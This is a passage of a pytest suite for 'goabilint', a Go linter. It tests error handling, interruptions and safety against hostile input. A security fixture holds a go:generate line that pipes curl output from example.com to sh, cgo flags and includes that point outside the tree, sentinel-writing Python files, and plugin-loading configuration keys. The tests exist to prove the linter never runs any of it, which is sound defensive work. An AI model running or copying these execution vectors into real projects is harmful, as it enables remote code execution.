    monkeypatch.setattr(os, "open", os_open)


def test_unreadable_file_in_every_output(tree, monkeypatch, capsys):
    write_tree(
        tree, {"pkg/a.go": LINKNAME_WITHOUT_UNSAFE, "pkg/b.go": LINKNAME_WITHOUT_UNSAFE}
    )
    _fail_open_for(monkeypatch, {"a.go": errno.EACCES, "b.go": errno.EIO})

    text = run_main(capsys, "--no-cache", ".")
    doc = run_main(capsys, "--no-cache", "--format", "json", ".")
    sarif = run_main(capsys, "--no-cache", "--format", "sarif", ".")

    assert text.code == doc.code == sarif.code == 2
    assert "error: pkg/a.go: cannot read: Permission denied" in text.err_lines
    assert "error: pkg/b.go: cannot read: Input/output error" in text.err_lines
    assert "control/ok.go:3:1: LNK001" in text.out
    assert [f["path"] for f in doc.json()["findings"]] == ["control/ok.go"]
    assert {(e["path"], e["level"]) for e in doc.json()["errors"]} == {
        ("pkg/a.go", "error"),
        ("pkg/b.go", "error"),
    }
    (inv,) = sarif.json()["runs"][0]["invocations"]
    assert inv["executionSuccessful"] is False
    uris = [
        n["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        for n in inv["toolExecutionNotifications"]
    ]
    assert sorted(uris) == ["pkg/a.go", "pkg/b.go"]


def test_file_vanishes_between_discovery_and_reading(tree, monkeypatch):
    write_tree(
        tree, {"pkg/a.go": LINKNAME_WITHOUT_UNSAFE, "pkg/b.go": LINKNAME_WITHOUT_UNSAFE}
    )
    real = engine.discover

    def discover_then_delete(*args, **kwargs):
        found = real(*args, **kwargs)
        (tree / "pkg/a.go").unlink()
        return found

    monkeypatch.setattr(engine, "discover", discover_then_delete)

    result = analyse()

    assert errors(result) == ["pkg/a.go: cannot read: No such file or directory"]
    assert keys(result) == {("LNK001", "pkg/b.go", LINKNAME_LINE), CONTROL_FINDING}


def test_directory_vanishes_during_the_walk(tree, monkeypatch):
    write_tree(
        tree,
        {"pkg/a.go": LINKNAME_WITHOUT_UNSAFE, "pkg/gone/g.go": LINKNAME_WITHOUT_UNSAFE},
    )
    real_scandir = os.scandir

    class Listing:
        def __init__(self, path):
            # shutil.rmtree lists directories by descriptor.
            self.path = path if isinstance(path, int) else Path(path)
            self.it = real_scandir(path)

        def __enter__(self):
            return self.it.__enter__()

        def __exit__(self, *exc):
            self.it.__exit__(*exc)
            if self.path == tree / "pkg":
                shutil.rmtree(tree / "pkg/gone")  # after listing, before entering

    monkeypatch.setattr(os, "scandir", Listing)

    result = analyse()

    assert len(errors(result)) == 1
    assert "pkg/gone" in errors(result)[0]
    assert keys(result) == {("LNK001", "pkg/a.go", LINKNAME_LINE), CONTROL_FINDING}


def test_non_utf8_file_names(tree, capsys):
    raw_dir, raw_file = b"d\xe9j\xe0", b"\xff\xfe.go"
    path = tree / os.fsdecode(raw_dir) / os.fsdecode(raw_file)
    path.parent.mkdir()
    path.write_text(LINKNAME_WITHOUT_UNSAFE)
    shown = "d\\xe9j\\xe0/\\xff\\xfe.go"

    runs = {
        fmt: run_main(capsys, "--no-cache", "--format", fmt, ".")
        for fmt in ("text", "json", "github", "sarif")
    }

    assert {r.code for r in runs.values()} == {1}
    assert f"{shown}:3:1: LNK001" in runs["text"].out
    assert f"file={shown}," in runs["github"].out
    assert sorted(runs["json"].paths()) == ["control/ok.go", shown]
    results = runs["sarif"].json()["runs"][0]["results"]
    uris = [
        r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        for r in results
    ]
    assert "d%E9j%E0/%FF%FE.go" in uris
    # The URI names the file itself.
    assert (
        os.fsencode(tree) + b"/" + unquote_to_bytes("d%E9j%E0/%FF%FE.go")
    ) == os.fsencode(path)


def test_paths_with_spaces(tree, capsys):
    write_tree(tree, {"my pkg/a b.go": LINKNAME_WITHOUT_UNSAFE})

    runs = {
        fmt: run_main(capsys, "--no-cache", "--format", fmt, "my pkg/a b.go", "control")
        for fmt in ("text", "json", "github", "sarif")
    }

    assert "my pkg/a b.go:3:1: LNK001" in runs["text"].out
    assert "file=my pkg/a b.go," in runs["github"].out
    assert sorted(runs["json"].paths()) == ["control/ok.go", "my pkg/a b.go"]
    results = runs["sarif"].json()["runs"][0]["results"]
    uris = {
        r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        for r in results
    }
    assert uris == {"control/ok.go", "my%20pkg/a%20b.go"}


# Faults inside goabilint


def _crash_on_marker(file: GoFile, report) -> None:
    report(
        file.root.children[0] if file.root.children else file.root, "before the crash"
    )
    if b"CRASH" in file.data:
        raise RuntimeError("rule bug")


CRASHER = make_rule("TST004", "crash-on-marker", check_go=_crash_on_marker)
CRASHY_TREE = {
    "pkg/a.go": LINKNAME_WITHOUT_UNSAFE,
    "pkg/b.go": LINKNAME_WITHOUT_UNSAFE + "// CRASH\n",
    "other/c.go": LAY_SOURCE,
}


def _without(result: RunResult, code: str) -> list[tuple]:
    return sorted(
        (f.code, f.location, f.message) for f in result.findings if f.code != code
    )


def test_rule_crash_becomes_a_notification_and_costs_nothing_else(tree):
    write_tree(tree, CRASHY_TREE)
    baseline = analyse()

    result = analyse(extra=[RulesPlugin(CRASHER)])

    assert errors(result) == ["pkg/b.go: rule TST004 crashed: RuntimeError: rule bug"]
    (note,) = [n for n in result.notifications if n.level == "error"]
    assert note.rule == "rule TST004"
    assert _without(result, "TST004") == _without(baseline, "TST004")
    assert _without(result, "TST004")  # there were other results to keep
    # The crashing rule's own findings stand on the files it finished.
    crasher = {f.location.path for f in result.findings if f.code == "TST004"}
    assert crasher == {"pkg/a.go", "other/c.go", "control/ok.go"}
    assert result.internal_error


@pytest.fixture
def crashing_cli(tree, monkeypatch, capsys):
    """``goabilint`` with TST004 installed, over CRASHY_TREE."""
    write_tree(tree, CRASHY_TREE)
    real = plugins.load_registry
    monkeypatch.setattr(
        plugins,
        "load_registry",
        lambda extra_plugins=(): real(
            extra_plugins=[*extra_plugins, RulesPlugin(CRASHER)]
        ),
    )
    return lambda *args: run_main(capsys, "--no-cache", *args)


def test_rule_crash_in_text_output(crashing_cli):
    run = crashing_cli(".")

    assert run.code == 2
    assert (
        "error: pkg/b.go: rule TST004 crashed: RuntimeError: rule bug" in run.err_lines
    )
    assert "pkg/a.go:3:1: LNK001" in run.out
    assert "pkg/b.go:3:1: LNK001" in run.out
    assert "Traceback" not in run.err


def test_rule_crash_in_json_output(crashing_cli):
    run = crashing_cli("--format", "json", ".")

    assert run.code == 2
    doc = run.json()
    assert [e for e in doc["errors"] if e["level"] == "error"] == [
        {
            "level": "error",
            "message": "rule TST004 crashed: RuntimeError: rule bug",
            "path": "pkg/b.go",
            "rule": "rule TST004",
        }
    ]
    assert ("LNK001", "pkg/b.go") in {(f["code"], f["path"]) for f in doc["findings"]}


def test_rule_crash_in_sarif_output(crashing_cli):
    run = crashing_cli("--format", "sarif", ".")

    assert run.code == 2
    sarif = run.json()["runs"][0]
    (inv,) = sarif["invocations"]
    assert inv["executionSuccessful"] is False
    (note,) = [n for n in inv["toolExecutionNotifications"] if n["level"] == "error"]
    assert note["message"]["text"] == "rule TST004 crashed: RuntimeError: rule bug"
    assert (
        note["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        == "pkg/b.go"
    )
    rule_ids = [r["id"] for r in sarif["tool"]["driver"]["rules"]]
    assert note["associatedRule"]["id"] == "TST004" and "TST004" in rule_ids
    assert ("LNK001", "pkg/b.go") in {
        (r["ruleId"], r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"])
        for r in sarif["results"]
    }


class _HookPlugin:
    """Implements a check hook itself, badly."""

    plugin_name = "test[hook]"

    def __init__(self, behaviour):
        self.behaviour = behaviour

    @hookimpl
    def goabilint_check_go_file(self, file, enabled, targets):
        return self.behaviour(file)


def _raise(file):
    raise ValueError("hook bug")


@pytest.mark.parametrize(
    "behaviour, message",
    [
        (_raise, "test[hook] crashed: ValueError: hook bug"),
        (lambda f: "findings", "test[hook] returned str, not a list of findings"),
        (lambda f: [None], "test[hook] returned list, not a list of findings"),
        (lambda f: 42, "test[hook] returned int, not a list of findings"),
    ],
    ids=["raises", "string", "list of None", "number"],
)
def test_misbehaving_check_hook(tree, behaviour, message):
    write_tree(tree, {"pkg/a.go": LINKNAME_WITHOUT_UNSAFE})

    result = analyse(extra=[_HookPlugin(behaviour)])

    assert set(errors(result)) == {f"pkg/a.go: {message}", f"control/ok.go: {message}"}
    assert keys(result) == {("LNK001", "pkg/a.go", LINKNAME_LINE), CONTROL_FINDING}


def test_package_rule_crash_names_the_package(tree):
    def crash(package, report):
        raise KeyError("boom")

    write_tree(tree, {"pkg/a.go": LINKNAME_WITHOUT_UNSAFE})
    rule = make_rule("TST005", "package-crash", check_package=crash)

    result = analyse(extra=[RulesPlugin(rule)])

    assert sorted(errors(result)) == [
        "control: rule TST005 crashed: KeyError: 'boom'",
        "pkg: rule TST005 crashed: KeyError: 'boom'",
    ]
    assert keys(result) == {("LNK001", "pkg/a.go", LINKNAME_LINE), CONTROL_FINDING}


def test_interrupted_write_keeps_the_old_file(tmp_path, monkeypatch):
    out = tmp_path / "results.sarif"
    out.write_text('{"old": true}\n')

    def interrupt(fd):
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "fsync", interrupt)
    with pytest.raises(KeyboardInterrupt):
        write_atomically(out, "{" + '"new": 1, ' * 100_000 + "}\n")

    assert out.read_text() == '{"old": true}\n'
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results.sarif"]


def test_ctrl_c_while_rendering_keeps_the_old_output(tree, capsys, monkeypatch):
    out = tree / "out.json"
    out.write_text('{"old": true}\n')

    def interrupt(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr("goabilint.outputs.render_json", interrupt)
    run = run_main(capsys, "--no-cache", "--format", "json", "--output", str(out), ".")

    assert run.code == 130
    assert out.read_text() == '{"old": true}\n'


# The child writes its output, announces it is about to make it durable, then
# waits in fsync until the test kills it with SIGKILL.
KILLED_WHILE_WRITING = r"""
import os, sys, time
marker = sys.argv[1]

def fsync(fd):
    open(marker, "w").close()
    time.sleep(60)

os.fsync = fsync
from goabilint.cli import main
sys.exit(main(sys.argv[2:]))
"""


def test_killed_while_writing_leaves_the_old_output(tree):
    out = tree / "out.sarif"
    out.write_text('{"old": true}\n')
    marker = tree / "writing"
    args = ["--no-cache", "--format", "sarif", "--output", str(out), "control"]
    proc = subprocess.Popen(
        [sys.executable, "-c", KILLED_WHILE_WRITING, str(marker), *args], cwd=tree
    )
    try:
        deadline = time.monotonic() + 60
        while not marker.exists():
            assert proc.poll() is None and time.monotonic() < deadline
            time.sleep(0.05)
        proc.kill()
        proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()

    assert proc.returncode == -signal.SIGKILL
    assert json.loads(out.read_text()) == {"old": True}


# A plugin whose package check sleeps in the worker processes, writing each
# worker's pid first; the test interrupts the run while they sleep.
CTRL_C_WITH_WORKERS = r"""
import os, sys, time
from pathlib import Path
from goabilint import plugins
from goabilint.hookspecs import hookimpl

workers, args = Path(sys.argv[1]), sys.argv[2:]
parent = os.getpid()

class Sleeper:
    plugin_name = "test[sleeper]"

    @hookimpl
    def goabilint_check_package(self, package, enabled, targets):
        if os.getpid() != parent:
            (workers / str(os.getpid())).touch()
            time.sleep(120)
        return []

real = plugins.load_registry
plugins.load_registry = lambda extra_plugins=(): real([*extra_plugins, Sleeper()])
from goabilint.cli import main
sys.exit(main(args))
"""


def test_ctrl_c_with_workers_stops_everything(tree):
    for i in range(300):  # enough files for the pool
        write_tree(tree, {f"many/p{i % 30}/f{i}.go": LINKNAME_WITHOUT_UNSAFE})
    workers = tree / "workers"
    workers.mkdir()
    out = tree / "out.json"
    out.write_text('{"old": true}\n')
    args = ["--no-cache", "--jobs", "3", "--format", "json", "--output", str(out)]
    proc = subprocess.Popen(
        [sys.executable, "-c", CTRL_C_WITH_WORKERS, str(workers), *args, "many"],
        cwd=tree,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        deadline = time.monotonic() + 60
        while len(list(workers.iterdir())) < 2:
            assert proc.poll() is None and time.monotonic() < deadline, proc.stderr
            time.sleep(0.05)
        started = time.monotonic()
        proc.send_signal(signal.SIGINT)
        _, err = proc.communicate(timeout=30)
        stopped = time.monotonic()
        time.sleep(0.5)
    finally:
        if proc.poll() is None:
            proc.kill()
        pids = [int(p.name) for p in workers.iterdir()]
        leftover = [pid for pid in pids if _running(pid)]
        for pid in leftover:
            os.kill(pid, signal.SIGKILL)  # not to outlive a failed test

    assert proc.returncode == 130
    assert stopped - started < 10
    assert err.strip().endswith("interrupted")
    assert json.loads(out.read_text()) == {"old": True}
    assert leftover == []  # no worker left sleeping


def _running(pid: int) -> bool:
    """Whether ``pid`` exists and is not a zombie waiting to be reaped."""
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return True
    return stat.rsplit(")", 1)[1].split()[0] != "Z"


# Security

HOSTILE_FILES = {
    "go.mod": """\
        module example.com/hostile

        go 1.22

        toolchain go1.99.0

        require example.com/dep v1.0.0

        replace example.com/dep => ../outside
        replace example.com/abs => {outside}
        """,
    "go.work": "go 1.22\n\nuse ../outside\n",
    "a.go": """\
        package hostile

        /*
        #cgo CFLAGS: -fplugin={outside}/evil.so
        #cgo LDFLAGS: -Wl,-rpath,{outside}
        #include "{outside}/evil.h"
        */
        import "C"

        import (
        \t"embed"
        \t"os"
        \t"os/exec"
        )

        //go:generate touch {sentinel}-generate
        //go:generate sh -c "curl http://example.com/x | sh"

        //go:embed secret.txt
        var secret embed.FS

        //go:linkname nanotime runtime.nanotime
        func nanotime() int64

        func init() {
        \t_ = os.WriteFile("{sentinel}-init", nil, 0o644)
        \t_ = exec.Command("touch", "{sentinel}-exec").Run()
        }
        """,
    "a_test.go": """\
        package hostile

        import (
        \t"os"
        \t"testing"
        )

        func TestMain(m *testing.M) { os.WriteFile("{sentinel}-test", nil, 0o644) }
        """,
    "a_amd64.s": """\
        #include "{outside}/evil.h"
        #include "textflag.h"

        TEXT ·nanotime(SB), NOSPLIT, $0-8
        \tRET
        """,
    "secret.txt": "not read\n",
    "conftest.py": "open('{sentinel}-conftest', 'w').close()\n",
    "setup.py": "open('{sentinel}-setup', 'w').close()\n",
    "goabilint_plugin.py": "open('{sentinel}-plugin', 'w').close()\n",
    "pluggy.py": "open('{sentinel}-pluggy', 'w').close()\n",
    "tomllib.py": "open('{sentinel}-tomllib', 'w').close()\n",
    "evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
    "evil-1.0.dist-info/entry_points.txt": "[goabilint]\nevil = goabilint_plugin\n",
    "Makefile": "all:\n\ttouch {sentinel}-make\n",
}


@pytest.fixture
def hostile(tmp_path):
    """A module that tries every way of getting run, and a tree outside it."""
    outside, root = tmp_path / "outside", tmp_path / "module"
    sentinel = tmp_path / "PWNED"
    write_tree(outside, {"o.go": LINKNAME_WITHOUT_UNSAFE, "evil.h": "#error no\n"})
    write_tree(
        root,
        {
            rel: textwrap.dedent(text)
            .replace("{outside}", str(outside))
            .replace("{sentinel}", str(sentinel))
            for rel, text in HOSTILE_FILES.items()
        },
    )
    (root / "linked").symlink_to(outside)
    (root / "o.go").symlink_to(outside / "o.go")
    return root, outside, tmp_path


# Runs `goabilint ARGS` as the console script does (the working directory is
# not on sys.path), recording audit events from just before main() is called.
AUDITED_RUN = r"""
import json, os, sys
sys.path[:] = [p for p in sys.path if p not in ("", os.getcwd())]
log, args = sys.argv[1], sys.argv[2:]
events = []
recording = False
ALWAYS = ("open", "os.listdir", "os.scandir", "exec", "compile", "import")
DANGER = ("subprocess.", "os.system", "os.exec", "os.spawn", "os.posix_spawn", "os.fork",
          "os.forkpty", "pty.", "socket.", "urllib.", "http.client.", "ftplib.", "smtplib.",
          "ctypes.", "webbrowser.", "os.startfile")

def describe(event, args):
    if event == "exec":
        return getattr(args[0], "co_filename", None)
    if event == "compile":
        return args[1] if isinstance(args[1], str) else None
    if event == "import":
        return args[1] if isinstance(args[1], str) else None
    if event in ("open", "os.listdir", "os.scandir"):
        p = args[0]
        return os.path.abspath(os.fsdecode(p)) if isinstance(p, (str, bytes)) else None
    return repr(args)[:300]

def hook(event, args):
    if recording and (event in ALWAYS or event.startswith(DANGER)):
        mode = args[1] if event == "open" and len(args) > 1 else None
        events.append([event, describe(event, args), str(mode)])

sys.addaudithook(hook)
from goabilint.cli import main
recording = True
try:
    code = main(args)
finally:
    recording = False
    with open(log, "w") as f:
        json.dump({"events": events, "prefixes": [sys.prefix, sys.base_prefix]}, f)
sys.exit(code)
"""


def _allowed_outside(path: str, root: Path, prefixes: list[str]) -> bool:
    """Files besides the tree that a run may open: Python's own, goabilint's
    own, and configuration or go.mod files in the directories above."""
    p = Path(path)
    own = Path(engine.__file__).resolve().parent.parent
    if any(p.is_relative_to(base) for base in [*map(Path, prefixes), own]):
        return True
    if (
        p.name in ("go.mod", "pyproject.toml", ".goabilint.toml")
        and p.parent in root.parents
    ):
        return True
    return path.startswith(("/dev/", "/proc/self/"))


def test_analysing_a_hostile_module_runs_and_reaches_nothing(hostile):
    root, outside, base = hostile
    log = base / "audit.json"
    env = {k: v for k, v in os.environ.items() if not k.startswith("GOABILINT_")}

    args = ["--select", "ALL", "--format", "json", "--output", "out.json", "."]
    proc = subprocess.run(
        [sys.executable, "-c", AUDITED_RUN, str(log), *args],
        cwd=root,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )

    assert proc.returncode == 1, proc.stderr  # findings, and no internal error
    doc = json.loads((root / "out.json").read_text())
    assert ("LNK001", "a.go") in {(f["code"], f["path"]) for f in doc["findings"]}
    assert not [f for f in doc["findings"] if not (root / f["path"]).is_file()]
    assert not list(base.glob("PWNED*"))

    audit = json.loads(log.read_text())
    events = audit["events"]
    # No process, socket, library or URL: only file access and Python's own
    # imports were seen.
    seen = ("open", "os.listdir", "os.scandir", "exec", "compile", "import")
    assert [e for e in events if e[0] not in seen] == []
    paths = [(e[0], e[1]) for e in events if e[1] and e[1].startswith("/")]
    python = ("exec", "compile", "import")
    # Nothing in the tree is imported or compiled as Python.
    assert not [p for p in paths if p[0] in python and Path(p[1]).is_relative_to(root)]
    # Nothing outside the tree is opened or listed: not the replace targets,
    # not the symlinked directory, not the #include'd header.
    assert not [p for p in paths if Path(p[1]).is_relative_to(outside)]
    stray = [
        p
        for p in paths
        if not Path(p[1]).is_relative_to(root)
        and not _allowed_outside(p[1], root, audit["prefixes"])
    ]
    assert not stray
    # What was opened in the tree was read as data, never as Python source.
    opened = {
        Path(p[1]).relative_to(root)
        for p in paths
        if p[0] == "open" and Path(p[1]).is_relative_to(root)
    }
    assert not [p for p in opened if p.suffix == ".py" or "dist-info" in str(p)]
    assert Path("a.go") in opened and Path("secret.txt") not in opened


def test_python_m_does_not_import_from_the_working_directory(hostile):
    root, _, base = hostile
    env = {k: v for k, v in os.environ.items() if not k.startswith("GOABILINT_")}

    args = ["check", "--no-cache", "--select", "LNK001", "."]
    proc = subprocess.run(
        [sys.executable, "-m", "goabilint", *args],
        cwd=root,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )

    assert proc.returncode == 1, proc.stderr
    assert "a.go:22:1: LNK001" in proc.stdout
    assert not list(base.glob("PWNED*"))
    rules = subprocess.run(
        [sys.executable, "-m", "goabilint", "rules"],
        cwd=root,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert "evil" not in rules.stdout + rules.stderr


PLUGIN_KEYS = {
    ".goabilint.toml": [
        'plugins = ["./evil.py"]',
        'plugin = "evil"',
        'load-plugins = ["evil"]',
        'extend = "./evil.toml"',
        '[plugins]\nevil = "./evil.py"',
    ],
    "pyproject.toml": ['[tool.goabilint]\nplugins = ["evil.py"]'],
}


@pytest.mark.parametrize(
    "name, text",
    [(name, text) for name, texts in PLUGIN_KEYS.items() for text in texts],
)
def test_configuration_cannot_name_code_to_load(tree, capsys, name, text):
    sentinel = tree / "PWNED"
    write_tree(
        tree,
        {
            name: text + "\n",
            "evil.py": f"open({str(sentinel)!r}, 'w').close()\n",
            "evil.toml": 'select = ["ALL"]\n',
        },
    )

    run = run_main(capsys, "--no-cache", ".")

    assert run.code == 2
    assert len(run.err_lines) == 1 and "unknown key" in run.err
    assert run.out == ""
    assert not sentinel.exists()
    assert "evil" not in sys.modules


def test_an_analysed_package_is_freed_without_the_cycle_collector():
    # Rules' answers kept for a package refer back to it and its files;
    # Package.release breaks those cycles, so that reference counting frees
    # each package's files and trees as soon as it is done (a run raises
    # the collector's threshold and relies on it).
    import gc

    from goabilint import engine
    from goabilint.source import GoFile

    testdata = Path(__file__).resolve().parent.parent / "testdata"
    engine.run([str(testdata)], {"isolated": True})  # imports, tables, caches
    gc.collect()
    gc.disable()
    try:
        gc.set_debug(gc.DEBUG_SAVEALL)
        engine.run(
            [str(testdata)], {"isolated": True, "overrides": {"select": ["ALL"]}}
        )
        gc.collect()
        left = [o for o in gc.garbage if isinstance(o, GoFile)]
    finally:
        gc.set_debug(0)
        gc.garbage.clear()
        gc.enable()
    assert left == []
